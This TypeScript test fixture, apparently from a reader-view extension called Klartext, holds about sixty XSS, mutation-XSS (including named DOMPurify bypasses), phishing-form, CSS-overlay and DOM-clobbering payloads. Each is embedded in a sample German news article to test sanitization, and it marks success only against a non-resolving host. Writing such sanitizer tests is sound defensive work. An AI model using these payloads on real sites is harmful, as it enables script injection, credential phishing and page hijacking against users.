/**
 * Hostile article snippets: what a compromised or malicious page could put inside an article that
 * Klartext extracts and shows in its reader view.
 *
 * Each payload, if it ever executes, sets `top.__pwned_<name> = 1` (see `marker`), or — for the few
 * that can only navigate or restyle — tries to navigate to https://pwned.invalid/<name> or to cover the
 * viewport. Tests detect execution by reading the global `marker` on the page's window, navigation by
 * watching for requests/URLs on PWNED_HOST, and escapes by checking the reader's output structure.
 *
 * `articlePage(payload)` embeds a payload between ordinary paragraphs of a German news article so
 * Readability keeps the surrounding container (and with it, the payload) as the article.
 */

export type PayloadDetection =
  /** Executing sets `window[marker]` (the page's window or the top window from a frame). */
  | 'global'
  /** Success would navigate the page (or a frame) to https://pwned.invalid/<name>. */
  | 'navigation'
  /** Success would restyle, hide or overlay the page or the reader (no script involved). */
  | 'style'
  /** Success would shadow a DOM property or id the reader relies on (DOM clobbering). */
  | 'clobber'

export interface Payload {
  /** Identifier-safe name, unique. */
  name: string
  /** The hostile markup, as it would appear inside the article body. */
  html: string
  /** The global a successful execution sets: `__pwned_<name>`. */
  marker: string
  /** How a test can tell the payload worked. */
  detect: PayloadDetection
  /** What the payload tries, for reports. */
  technique: string
}

/** Host no payload may ever reach. `.invalid` never resolves. */
export const PWNED_HOST = 'pwned.invalid'
export const PWNED_PREFIX = '__pwned_'

/** JavaScript that marks execution. Works from the page and from same-origin frames. */
const run = (name: string): string => `top.${PWNED_PREFIX}${name}=1`
const away = (name: string): string => `https://${PWNED_HOST}/${name}`

type Spec = [name: string, detect: PayloadDetection, technique: string, html: (js: string, url: string) => string]

const SPECS: Spec[] = [
  // --- script elements ---
  ['script_inline', 'global', 'inline <script>', (js) => `<script>${js}</script>`],
  ['script_uppercase', 'global', 'upper-case <SCRIPT> with attributes', (js) => `<SCRIPT type="text/javascript" defer>${js}</SCRIPT>`],
  ['script_src_data', 'global', '<script src=data:>', (js) => `<script src="data:text/javascript,${encodeURIComponent(js)}"></script>`],
  ['script_module', 'global', '<script type=module>', (js) => `<script type="module">${js}</script>`],
  // --- event handler attributes ---
  ['img_onerror', 'global', '<img onerror> with a broken source', (js) => `<img src="x-does-not-exist.png" alt="Grafik" onerror="${js}">`],
  ['img_onload_svg', 'global', '<img onload> with a valid data: image', (js) => `<img alt="Diagramm" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${js}">`],
  ['a_onclick', 'global', '<a onclick> and onmouseover', (js) => `<p>Mehr dazu <a href="#quelle" onclick="${js}" onmouseover="${js}">in der Quelle</a>.</p>`],
  ['details_ontoggle', 'global', '<details open ontoggle> fires without interaction', (js) => `<details open ontoggle="${js}"><summary>Hintergrund</summary>Zusatzinformationen zum Modell.</details>`],
  ['input_autofocus', 'global', '<input autofocus onfocus>', (js) => `<input autofocus onfocus="${js}" value="Suche">`],
  ['video_source_onerror', 'global', '<video><source onerror>', (js) => `<video controls><source src="x-missing.mp4" onerror="${js}"></video>`],
  ['body_onload', 'global', 'a second <body onload> merged into the real body', (js) => `<body onload="${js}"><p>Fortsetzung des Artikels.</p></body>`],
  ['marquee_onstart', 'global', '<marquee onstart>', (js) => `<marquee onstart="${js}">Eilmeldung</marquee>`],
  // --- javascript:, vbscript:, data: URLs ---
  ['a_javascript_href', 'global', '<a href=javascript:>', (js) => `<p>Lesen Sie <a href="javascript:${js}">den vollständigen Bericht</a>.</p>`],
  ['a_javascript_obfuscated', 'global', 'javascript: with tab, entity and case tricks', (js) => `<p><a href="jav&#x09;a&#115;cript&colon;${js}">Studie</a>, <a href=" JaVaScRiPt:${js}">Quelle</a>, <a href="&#1;javascript:${js}">Archiv</a>.</p>`],
  ['a_vbscript_href', 'global', '<a href=vbscript:>', (js) => `<p>Siehe <a href="vbscript:${js}">Anhang</a>.</p>`],
  ['a_data_html', 'global', '<a href=data:text/html>', (js) => `<p>Das <a href="data:text/html,&lt;script&gt;${js}&lt;/script&gt;">Whitepaper</a> ist online.</p>`],
  ['img_src_javascript', 'global', '<img src=javascript:>', (js) => `<img alt="Foto" src="javascript:${js}">`],
  ['area_javascript', 'global', '<map><area href=javascript:>', (js) => `<map name="karte"><area shape="rect" coords="0,0,10,10" href="javascript:${js}" alt="Karte"></map>`],
  ['a_target_top', 'navigation', 'link that navigates the top window and keeps window.opener', (_js, url) => `<p>Zum <a href="${url}" target="_top">Originalartikel</a>.</p>`],
  ['img_srcset', 'navigation', 'srcset that loads from a hostile host', (_js, url) => `<img alt="Bild" src="bild.jpg" srcset="${url}.jpg 1x, ${url}-2x.jpg 2x">`],
  // --- frames and embedded documents ---
  ['iframe_srcdoc', 'global', '<iframe srcdoc> with a script', (js) => `<iframe srcdoc="&lt;script&gt;${js}&lt;/script&gt;"></iframe>`],
  ['iframe_javascript_src', 'global', '<iframe src=javascript:>', (js) => `<iframe src="javascript:${js}"></iframe>`],
  ['object_data', 'global', '<object data=javascript:> / text/html', (js) => `<object type="text/html" data="data:text/html,&lt;script&gt;${js}&lt;/script&gt;"><param name="src" value="javascript:${js}"></object>`],
  ['embed_svg', 'global', '<embed> of an SVG document with script', (js) => `<embed type="image/svg+xml" src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/&gt;">`],
  ['frameset_inline', 'global', '<frame src=javascript:> inside the body', (js) => `<frameset><frame src="javascript:${js}"></frameset>`],
  // --- forms ---
  ['form_action', 'global', '<form action=javascript:> with a submit button', (js) => `<form action="javascript:${js}"><p>Newsletter: <input name="email" value="leser@example.org"><button type="submit">Weiterlesen</button></p></form>`],
  ['button_formaction', 'global', '<button formaction=javascript:>', (js) => `<form><button formaction="javascript:${js}">Artikel speichern</button></form>`],
  ['isindex_action', 'global', 'legacy <isindex action>', (js) => `<isindex action="javascript:${js}" type="image" src="x.png">`],
  ['form_phishing', 'navigation', 'a credentials form posting elsewhere', (_js, url) => `<form action="${url}" method="post"><p>Bitte melden Sie sich erneut an: <input type="password" name="pw"><input type="submit" value="Anmelden"></p></form>`],
  // --- document-level elements ---
  ['meta_refresh', 'navigation', '<meta http-equiv=refresh>', (_js, url) => `<meta http-equiv="refresh" content="0; url=${url}">`],
  ['meta_refresh_javascript', 'global', '<meta http-equiv=refresh> to javascript:', (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`],
  ['base_href', 'navigation', '<base href> re-targeting every relative link', (_js, url) => `<base href="${url}/"><p>Die <a href="studie.html">Studie</a> im Detail.</p>`],
  ['link_stylesheet', 'style', '<link rel=stylesheet> from a hostile host', (_js, url) => `<link rel="stylesheet" href="${url}.css">`],
  // --- SVG ---
  ['svg_script', 'global', '<svg><script>', (js) => `<svg width="10" height="10"><script>${js}</script></svg>`],
  ['svg_onload', 'global', '<svg onload>', (js) => `<svg onload="${js}" width="10" height="10"><circle r="4" cx="5" cy="5"/></svg>`],
  ['svg_foreignobject', 'global', '<svg><foreignObject> with HTML handlers', (js) => `<svg><foreignObject width="100" height="50"><img src="x-missing.png" onerror="${js}"></foreignObject></svg>`],
  ['svg_use_href', 'global', '<svg><use href=data:> pulling in a scripted SVG', (js) => `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${js}'/&gt;&lt;/svg&gt;#x"/></svg>`],
  ['svg_animate_href', 'global', '<animate> setting href to javascript:', (js) => `<svg width="200" height="30"><a><animate attributeName="href" values="javascript:${js}"/><text x="5" y="20">Zur Quelle</text></a></svg>`],
  ['svg_set_handler', 'global', '<set>/<animate onbegin>', (js) => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"/><set attributeName="onmouseover" to="${js}"/></svg>`],
  ['svg_xlink_href', 'global', '<svg><a xlink:href=javascript:>', (js) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="30"><a xlink:href="javascript:${js}"><text x="5" y="20">Grafik öffnen</text></a></svg>`],
  ['svg_style_overlay', 'style', '<svg><style> with global selectors', () => `<svg><style>body, html { display: none !important } * { visibility: hidden }</style></svg>`],
  // --- MathML ---
  ['math_href', 'global', '<math href=javascript:> / <maction xlink:href>', (js) => `<math href="javascript:${js}"><mi>x</mi></math><math><maction actiontype="statusline" xlink:href="javascript:${js}"><mtext>Formel</mtext></maction></math>`],
  ['math_mglyph_style', 'global', 'DOMPurify 2.0.0 mXSS: <math><mtext><table><mglyph><style>', (js) => `<math><mtext><table><mglyph><style><img src="x-missing.png" onerror="${js}"></style></mglyph></table></mtext></math>`],
  ['math_form_mglyph', 'global', 'DOMPurify 2.2.2 mXSS: nested forms and <mglyph><style>', (js) => `<form><math><mtext></form><form><mglyph><style></math><img src="x-missing.png" onerror="${js}"></style></mglyph></form></mtext></math></form>`],
  // --- mutation XSS and parser confusion ---
  ['noscript_title', 'global', '<noscript> attribute breakout (scripting on/off parse differences)', (js) => `<noscript><p title="</noscript><img src=x-missing.png onerror=${js}>"></p></noscript>`],
  ['template_content', 'global', 'handlers inside <template> content', (js) => `<template><img src="x-missing.png" onerror="${js}"></template>`],
  ['svg_p_style', 'global', 'DOMPurify 2.0.17 namespace confusion: <svg></p><style>', (js) => `<svg></p><style><a id="</style><img src=x-missing.png onerror=${js}>">`],
  ['comment_breakout', 'global', 'comment that the HTML parser closes early', (js) => `<!--><img src="x-missing.png" onerror="${js}">-->`],
  ['cdata_in_svg', 'global', 'CDATA section ending differently in HTML and SVG', (js) => `<svg><![CDATA[><img src="x-missing.png" onerror="${js}">]]></svg>`],
  ['title_rawtext', 'global', '<title>/<textarea>/<xmp> raw-text breakout', (js) => `<p><textarea><img title="</textarea><img src=x-missing.png onerror=${js}>"></textarea><xmp><b title="</xmp><img src=x-missing.png onerror=${js}>"></xmp></p>`],
  ['style_breakout', 'global', 'closing a <style> inside an attribute', (js) => `<style><img title="</style><img src=x-missing.png onerror=${js}>"></style>`],
  // --- CSS that hides or overlays ---
  ['style_tag_hide', 'style', '<style> hiding the page and the reader', () => `<style>html, body, * { display: none !important; } :host { display: none !important }</style>`],
  ['style_import', 'style', '<style>@import from a hostile host', (_js, url) => `<style>@import url("${url}.css"); p { background: url("${url}.png") }</style>`],
  ['style_attr_overlay', 'style', 'style attribute: position:fixed full-screen fake login', (_js, url) => `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff;width:100vw;height:100vh"><p>Ihre Sitzung ist abgelaufen. <a href="${url}">Erneut anmelden</a></p></div>`],
  ['class_overlay', 'style', 'class names of the reader and of common CSS frameworks', () => `<div class="klartext-reader klartext-overlay modal-backdrop fixed inset-0 hidden"><p>Werbung</p></div>`],
  ['hidden_attr_popover', 'style', 'hidden/popover/inert attributes', () => `<div popover="manual" id="pop">Gewinnspiel!</div><div inert hidden>Verstecktes</div>`],
  // --- DOM clobbering ---
  ['clobber_reader_ids', 'clobber', 'ids/names the reader might look up', () => `<img id="klartext-reader" name="klartext-reader" src="a.png" alt=""><a id="klartext-root" name="klartext-root" href="#">x</a><div id="klartext">k</div>`],
  ['clobber_document_props', 'clobber', 'named properties shadowing document APIs', () => `<form name="getElementById"></form><img name="createElement" src="a.png" alt=""><img name="body" src="a.png" alt=""><img name="cookie" src="a.png" alt="">`],
  ['clobber_window_globals', 'clobber', 'ids shadowing window globals (browser, chrome, location)', () => `<a id="browser" href="#"></a><a id="chrome" name="runtime" href="#"></a><img id="defaultView" src="a.png" alt=""><a id="location" href="#"></a>`],
  ['clobber_form_attributes', 'clobber', 'form children clobbering attributes/parentNode', () => `<form id="kt"><input name="attributes"><input name="parentNode"><input id="nodeName"></form>`],
  // --- misc ---
  ['custom_element_slot', 'style', 'custom elements and <slot> projecting shadow-host content', () => `<klartext-reader></klartext-reader><slot name="content"></slot><p slot="content">Projiziert</p>`],
  ['data_attr_action', 'global', 'data-* attributes a delegated handler might read', (js) => `<p data-action="${js}" data-klartext-command="close" data-bind="${js}">Absatz mit Datenattributen.</p>`],
  ['a_download_ping', 'navigation', '<a download ping> leaking clicks', (_js, url) => `<p><a href="bericht.pdf" download="bericht.pdf" ping="${url}">Bericht als PDF</a>.</p>`],
]

export const PAYLOADS: readonly Payload[] = SPECS.map(([name, detect, technique, html]) => ({
  name,
  detect,
  technique,
  marker: `${PWNED_PREFIX}${name}`,
  html: html(run(name), away(name)),
}))

/** The article around each payload. Tests check that all of it survives sanitization. */
export const ARTICLE_TITLE = 'Neues Sprachmodell übertrifft Erwartungen in Benchmark-Tests'
export const ARTICLE_PARAGRAPHS: readonly string[] = [
  'MÜNCHEN (IT BOLTWISE) – Ein Forschungsteam hat ein neues Sprachmodell vorgestellt, das in mehreren unabhängigen Benchmark-Tests deutlich besser abschneidet als seine Vorgänger. Die Entwickler betonen, dass das Modell mit erheblich weniger Rechenleistung trainiert wurde.',
  'Nach Angaben der Forscher liegt der Fortschritt vor allem in einer verbesserten Auswahl der Trainingsdaten. Statt möglichst viele Texte zu verwenden, habe man gezielt auf Qualität gesetzt und doppelte sowie fehlerhafte Dokumente konsequent aussortiert.',
  'Unabhängige Fachleute sehen die Ergebnisse mit vorsichtigem Optimismus. Benchmarks bildeten nur einen Teil der realen Anwendungen ab, und viele Unternehmen würden Modelle erst nach eigenen Tests in ihre Produkte übernehmen, heißt es aus der Branche.',
  'Besonders im Bereich der mehrsprachigen Textverarbeitung zeigt das Modell Stärken. Deutsche, französische und spanische Texte werden nach den veröffentlichten Zahlen ähnlich zuverlässig zusammengefasst wie englische, was für europäische Anwender von Bedeutung ist.',
  'Das Team kündigte an, die Gewichte des Modells in den kommenden Monaten unter einer offenen Lizenz zu veröffentlichen. Damit könnten auch kleinere Forschungsgruppen und Start-ups auf der Arbeit aufbauen und eigene Anwendungen entwickeln.',
]

/** The payload goes between these two paragraphs (indexes into ARTICLE_PARAGRAPHS). */
const PAYLOAD_AFTER_PARAGRAPH = 2

/** A complete article page with `payload` inside the article body (or several payloads, in order). */
export function articlePage(payload: Payload | readonly Payload[]): string {
  const payloads = Array.isArray(payload) ? (payload as readonly Payload[]) : [payload as Payload]
  const paragraphs = ARTICLE_PARAGRAPHS.map((text) => `<p>${text}</p>`)
  const hostile = payloads.map((p) => `\n<!-- payload: ${p.name} -->\n${p.html}\n`).join('')
  const body = [...paragraphs.slice(0, PAYLOAD_AFTER_PARAGRAPH), hostile, ...paragraphs.slice(PAYLOAD_AFTER_PARAGRAPH)].join('\n')
  return `<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8">
<title>${ARTICLE_TITLE} - IT BOLTWISE® x Artificial Intelligence</title>
<meta property="og:type" content="article">
<meta property="og:title" content="${ARTICLE_TITLE}">
</head>
<body>
<header><nav><a href="/">Startseite</a> <a href="/kategorie/ki">KI</a></nav></header>
<main>
<article class="post">
<h1 class="entry-title">${ARTICLE_TITLE}</h1>
<div class="entry-content">
${body}
</div>
</article>
</main>
<footer><p>© IT BOLTWISE</p></footer>
</body>
</html>`
}
